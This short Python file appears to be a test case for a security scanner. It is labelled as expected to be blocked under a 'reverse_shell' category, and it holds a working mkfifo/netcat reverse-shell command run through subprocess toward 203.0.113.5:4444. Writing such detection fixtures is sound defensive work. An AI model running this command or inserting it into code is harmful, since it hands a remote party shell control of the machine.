# expect: BLOCKED category: reverse_shell
# The mkfifo/netcat reverse shell.
import subprocess

subprocess.call("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f", shell=True)
